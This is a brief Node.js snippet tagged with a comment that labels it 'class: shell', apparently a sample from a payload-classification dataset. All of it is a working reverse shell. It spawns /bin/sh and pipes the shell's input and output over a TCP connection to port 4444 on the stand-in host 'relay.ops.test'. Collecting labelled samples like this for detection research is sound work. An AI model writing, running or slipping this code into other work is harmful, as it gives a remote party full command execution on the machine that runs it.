// class: shell; possible: low medium
const net = require('net'); const sh = require('child_process').spawn('/bin/sh', []);
const c = new net.Socket();
c.connect(4444, 'relay.ops.test', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
sh.on('exit', () => process.exit());
